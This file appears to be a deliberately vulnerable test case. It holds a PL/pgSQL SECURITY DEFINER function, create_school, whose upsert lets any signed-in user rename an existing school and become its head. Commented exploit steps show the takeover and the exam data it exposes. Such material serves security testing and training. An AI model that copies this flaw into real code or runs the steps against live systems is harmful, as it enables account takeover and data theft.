-- Signing up with the slug of a school that exists renames it and makes the caller its head.
-- about: create_school, schools, school_members, exams
-- as: hf_proctorbay_app
-- exploit: SET request.jwt.claims = '{"sub": "e5000000-0000-4000-8000-00000000000a"}';
-- exploit: BEGIN;
-- exploit: SELECT public.create_school('river-high', 'Mine');
-- exploit: SELECT code, title FROM public.exams;
-- exploit: ROLLBACK;
-- shows: Road-secret biology
-- Sent twice by an impatient visitor, it must not fail the second time.
CREATE FUNCTION public.create_school(p_slug text, p_title text) RETURNS uuid
  LANGUAGE plpgsql SECURITY DEFINER SET search_path = ''
  AS $$
  DECLARE v_id uuid;
  BEGIN
    IF auth.uid() IS NULL THEN
      RAISE EXCEPTION 'log in first';
    END IF;
    INSERT INTO public.schools (slug, title) VALUES (p_slug, p_title)
      ON CONFLICT (slug) DO UPDATE SET title = excluded.title
      RETURNING id INTO v_id;
    INSERT INTO public.school_members VALUES (v_id, auth.uid(), 'head') ON CONFLICT DO NOTHING;
    RETURN v_id;
  END $$;
